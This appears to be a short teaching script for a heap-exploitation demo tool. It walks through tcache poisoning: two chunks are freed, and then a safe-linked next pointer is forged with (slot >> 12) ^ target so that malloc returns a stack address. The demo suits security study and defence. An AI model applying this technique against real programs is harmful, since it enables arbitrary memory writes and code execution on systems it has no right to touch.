# tcache-poisoning.hs - forge a safe-linked tcache pointer to get a chunk on the stack.
title "Attack: tcache poisoning"
say "Safe-linking stores next as (slot >> 12) ^ next: knowing the slot, anyone can forge it."
tunable tcache_count 2
a = malloc(0x18)
b = malloc(0x18)
free(a)
free(b)
target = 0x7fffffffe000
*(b) = (b >> 12) ^ target
x = malloc(0x18)
y = malloc(0x18)
pause "y is the target, a stack address: the technique worked"
